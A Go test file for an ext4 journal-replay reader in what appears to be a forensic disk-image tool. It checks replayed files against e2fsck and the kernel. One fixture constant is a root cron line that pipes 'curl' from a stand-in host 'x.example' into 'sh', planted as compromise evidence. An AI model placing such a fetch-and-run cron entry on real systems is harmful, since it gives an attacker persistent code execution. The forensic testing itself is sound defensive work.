package ext4

import (
	"bytes"
	"errors"
	"fmt"
	"io"
	"io/fs"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/snapscan/snapscan/fsread"
	"github.com/snapscan/snapscan/internal/testimg"
)

// dirtyImage builds variant with testdata/images/make-dirty-ext4.sh into a
// per-binary directory (once) and returns its path.
func dirtyImage(t testing.TB, variant string) string {
	t.Helper()
	needTools(t, "mke2fs", "debugfs", "e2fsck")
	if strings.HasPrefix(variant, "k-") {
		if os.Geteuid() != 0 {
			t.Skipf("%s needs root: the kernel writes its journal (loop mount)", variant)
		}
		if _, err := exec.LookPath("losetup"); err != nil {
			t.Skip("needs losetup")
		}
	}
	imgMu.Lock()
	defer imgMu.Unlock()
	if p, ok := imgDone["dirty-"+variant]; ok {
		return p
	}
	img := filepath.Join(imgDir, "dirty-"+variant+".img")
	out, err := runScript(t, img, variant)
	if err != nil {
		if ee, ok := err.(*exec.ExitError); ok && ee.ExitCode() == 2 && strings.Contains(string(out), "needs root") {
			t.Skipf("%s", out)
		}
		t.Fatalf("make-dirty-ext4.sh %s: %v\n%s", variant, err, out)
	}
	imgDone["dirty-"+variant] = img
	return img
}

// runScript runs testdata/images/make-dirty-ext4.sh to build variant at img.
func runScript(tb testing.TB, img, variant string, env ...string) ([]byte, error) {
	cmd := exec.Command("bash", filepath.Join(testimg.RepoRoot(tb), "testdata/images/make-dirty-ext4.sh"), img, variant)
	cmd.Env = append(os.Environ(), env...)
	return cmd.CombinedOutput()
}

func openOpts(t testing.TB, img string, opt fsread.OpenOptions) fsread.FS {
	return testimg.OpenFS(t, img, func(r io.ReaderAt, size int64, label string) (fsread.FS, error) {
		return NewOpts(r, size, label, opt)
	})
}

// mountReplay loop-mounts a copy read-only over a writable loop device, so
// that the kernel replays the journal as on any mount (ro,loop would give
// a read-only device, on which ext4 refuses to recover).
func mountReplay(t *testing.T, img string) (string, error) {
	t.Helper()
	out, err := exec.Command("losetup", "-f", "--show", img).Output()
	if err != nil {
		t.Skipf("losetup %s: %v", img, err)
	}
	dev := strings.TrimSpace(string(out))
	mnt := t.TempDir()
	if out, err := exec.Command("mount", "-t", "ext4", "-o", "ro", dev, mnt).CombinedOutput(); err != nil {
		exec.Command("losetup", "-d", dev).Run()
		return "", fmt.Errorf("mount %s: %v: %s", img, err, out)
	}
	t.Cleanup(func() {
		for i := 0; i < 5; i++ {
			if exec.Command("umount", mnt).Run() == nil {
				break
			}
			time.Sleep(200 * time.Millisecond)
		}
		exec.Command("losetup", "-d", dev).Run()
	})
	return mnt, nil
}

const minerCron = "* * * * * root curl -fsSL http://x.example/a.sh | sh\n"

// journalStats rescans the journal of img, for what Recovery does not say.
func journalStats(t *testing.T, img string) (*replay, *jsuper) {
	t.Helper()
	v, err := openVolume(t, img)
	if err != nil {
		t.Fatal(err)
	}
	j, js, err := v.loadJournal(le32(v.sb.raw, sbJournalInum))
	if err != nil {
		t.Fatal(err)
	}
	return scanJournal(j, js, v.sb.blocksCount), js
}

// maxDescriptors is the most descriptor blocks one transaction of img's
// journal has.
func maxDescriptors(t *testing.T, img string) int {
	b, err := os.ReadFile(img)
	if err != nil {
		t.Fatal(err)
	}
	l := journalLayout(t, b)
	per := map[uint32]int{}
	most := 0
	for _, h := range l.blocks {
		if h.typ == jbdDescriptor {
			per[h.seq]++
			most = max(most, per[h.seq])
		}
	}
	return most
}

func TestJournalReplayOracle(t *testing.T) {
	cases := []struct {
		variant  string
		checksum string
		// revokedZero: the revoke transaction of the d-* images leaves
		// jonly/revoked's first block as on disk (zeros).
		revokedZero, escape, revoke, wrap bool
		// multiDesc: a transaction spans several descriptor blocks.
		multiDesc bool
		minTrans  int
		// warn: replay is expected to stop with a warning matching this,
		// where e2fsck stops too.
		warn string
	}{
		{variant: "d-ext4", checksum: "v3 (crc32c)", revokedZero: true, escape: true, revoke: true, minTrans: 3},
		{variant: "d-ext4-1k", checksum: "v3 (crc32c)", revokedZero: true, escape: true, revoke: true, minTrans: 3, multiDesc: true},
		{variant: "d-ext4-v2", checksum: "v2 (crc32c)", revokedZero: true, escape: true, revoke: true, minTrans: 3},
		{variant: "d-ext4-nocsum", checksum: "none", revokedZero: true, escape: true, revoke: true, minTrans: 3},
		// debugfs's v1 writer puts the revoke block into the commit's
		// crc32, which recovery (kernel and e2fsck: "Journal transaction
		// 3 was corrupt, replay was aborted") does not: replay ends at 2.
		{variant: "d-ext4-v1", checksum: "v1 (crc32 of commits)", escape: true, minTrans: 2,
			warn: `^transaction 3: commit block 64: crc32 [0-9a-f]{8}, the transaction's is ffffffff; replay ends at transaction 2$`},
		{variant: "d-ext3", checksum: "none", revokedZero: true, escape: true, revoke: true, minTrans: 3},
		{variant: "d-ext4-no64", checksum: "v3 (crc32c)", revokedZero: true, escape: true, revoke: true, minTrans: 3},
		{variant: "k-ext4", checksum: "v3 (crc32c)", revoke: true, minTrans: 2},
		{variant: "k-ext4-journal", checksum: "v3 (crc32c)", escape: true, minTrans: 2},
		{variant: "k-ext4-nocsum", checksum: "none", revoke: true, minTrans: 2},
		{variant: "k-ext4-v1", checksum: "v1 (crc32 of commits)", revoke: true, minTrans: 2},
		{variant: "k-ext3", checksum: "none", revoke: true, minTrans: 2},
		{variant: "k-ext4-no64", checksum: "v3 (crc32c)", revoke: true, minTrans: 2},
		// The log was filled until it wrapped: jonly/magic's copy is checkpointed by then.
		{variant: "k-wrap", checksum: "v3 (crc32c)", wrap: true, multiDesc: true, minTrans: 2},
	}
	for _, tc := range cases {
		t.Run(tc.variant, func(t *testing.T) {
			img := dirtyImage(t, tc.variant)
			testimg.Unchanged(t, img)
			fsys := openOpts(t, img, fsread.OpenOptions{})
			rec := fsread.RecoveryOf(fsys)
			w := strings.Join(rec.Warnings, "; ")
			if rec.State != fsread.RecoveryReplayed || rec.Transactions < tc.minTrans || rec.Blocks == 0 ||
				(tc.warn == "") != (w == "") || !regexp.MustCompile(tc.warn).MatchString(w) {
				t.Fatalf("recovery %#v, want replayed with ≥ %d transactions and warnings %q", rec, tc.minTrans, tc.warn)
			}
			info, _ := InfoOf(fsys)
			if info.Journal == nil || info.Journal.Checksum != tc.checksum || !info.NeedsRecovery {
				t.Errorf("journal info %+v (needs_recovery %v), want checksum %q", info.Journal, info.NeedsRecovery, tc.checksum)
			}

			// What the running system saw.
			got, err := fs.ReadFile(fsys, "etc/cron.d/miner")
			if err != nil || string(got) != minerCron {
				t.Errorf("replayed miner cron: %q, %v", got, err)
			}
			if st, err := fs.Stat(fsys, "etc/cron.d/miner"); err != nil || st.Mode().Perm() != 0o755 {
				t.Errorf("miner mode: %v, %v (want 0755 from the second transaction)", st, err)
			}
			if h, _ := fs.ReadFile(fsys, "etc/hostname"); string(h) != "web01-compromised\n" {
				t.Errorf("hostname %q", h)
			}
			if _, err := fs.Stat(fsys, "etc/old"); !errors.Is(err, fs.ErrNotExist) {
				t.Errorf("etc/old removed in the journal: %v", err)
			}
			if _, err := fs.Stat(fsys, "jonly/tmp"); !errors.Is(err, fs.ErrNotExist) {
				t.Errorf("jonly/tmp removed in the journal: %v", err)
			}
			magic, err := fs.ReadFile(fsys, "jonly/magic")
			if err != nil || len(magic) != 4196 || !bytes.HasPrefix(magic, []byte{0xc0, 0x3b, 0x39, 0x98}) {
				t.Errorf("jonly/magic: %d bytes starting %x (%v), want 4196 from c03b3998", len(magic), magic[:min(4, len(magic))], err)
			}
			rv, err := fs.ReadFile(fsys, "jonly/revoked")
			if err != nil || len(rv) != 8192 {
				t.Errorf("jonly/revoked: %d bytes, %v", len(rv), err)
			} else if bs := int(info.BlockSize); bytes.Count(rv[:bs], []byte{0}) == bs != tc.revokedZero {
				t.Errorf("jonly/revoked's first block all zeros = %v (revoked copy)", !tc.revokedZero)
			}

			// The journal features the variant was made to exercise.
			res, _ := journalStats(t, img)
			escaped := 0
			for _, e := range res.ov {
				if e.escape {
					escaped++
				}
			}
			if tc.escape && escaped == 0 {
				t.Errorf("no escaped copy replayed")
			}
			if tc.revoke && res.revoked == 0 {
				t.Errorf("no copy skipped by a revoke record")
			}
			if d := maxDescriptors(t, img); (d > 1) != tc.multiDesc {
				t.Errorf("at most %d descriptor blocks in a transaction, multiDesc %v", d, tc.multiDesc)
			}
			if res.wrapped != tc.wrap {
				t.Errorf("log wrapped %v, want %v", res.wrapped, tc.wrap)
			}
			t.Logf("%s: %d transactions, %d blocks, %d escaped, %d revoked copies, wrapped %v",
				tc.variant, rec.Transactions, rec.Blocks, escaped, res.revoked, res.wrapped)

			// The on-disk view, for the analyst who wants both.
			disk := openOpts(t, img, fsread.OpenOptions{NoReplay: true})
			if r := fsread.RecoveryOf(disk); r.State != fsread.RecoveryDirty || !strings.Contains(r.Reason, "replay disabled") {
				t.Errorf("NoReplay recovery %+v", r)
			}
			if _, err := fs.Stat(disk, "etc/cron.d/miner"); !tc.wrap && !errors.Is(err, fs.ErrNotExist) {
				t.Errorf("on-disk view has the journal-only miner cron: %v", err)
			}

			// e2fsck replays into a copy; debugfs then reads it as we read the original.
			fixed := copyImage(t, img)
			if out, err := exec.Command("e2fsck", "-fy", fixed).CombinedOutput(); err != nil {
				if ee, ok := err.(*exec.ExitError); !ok || ee.ExitCode() > 1 {
					t.Fatalf("e2fsck -fy: %v\n%s", err, out)
				}
			}
			n := compareDebugfs(t, fixed, fsys, true)
			t.Logf("%d entries match e2fsck's replay", n)

			if os.Geteuid() == 0 {
				mnt, err := mountReplay(t, copyImage(t, img))
				switch {
				case tc.warn != "" && err == nil:
					t.Errorf("the kernel mounts what we found corrupt")
				case tc.warn != "":
					t.Logf("the kernel refuses it too: %v", err)
				case err != nil:
					t.Fatal(err)
				default:
					t.Logf("%d entries match the kernel's replay", compareKernel(t, fsys, mnt))
				}
			}
		})
	}
}

// TestReplayedConcurrentReads: the overlay is immutable after open, so
// goroutines reading the replayed view at once all get the same bytes
// (run under -race in make test-race).
func TestReplayedConcurrentReads(t *testing.T) {
	img := dirtyImage(t, "d-ext4")
	fsys := openOpts(t, img, fsread.OpenOptions{})
	want := map[string]string{}
	for _, p := range []string{"etc/cron.d/miner", "etc/hostname", "jonly/big", "jonly/magic", "usr/bin/tool"} {
		h, err := hashFS(fsys, p)
		if err != nil {
			t.Fatal(err)
		}
		want[p] = h
	}
	var wg sync.WaitGroup
	errs := make(chan error, 8*len(want))
	for range 8 {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for p, h := range want {
				if got, err := hashFS(fsys, p); err != nil || got != h {
					errs <- fmt.Errorf("%s: %s (%v), want %s", p, got, err, h)
				}
			}
		}()
	}
	wg.Wait()
	close(errs)
	for err := range errs {
		t.Error(err)
	}
}
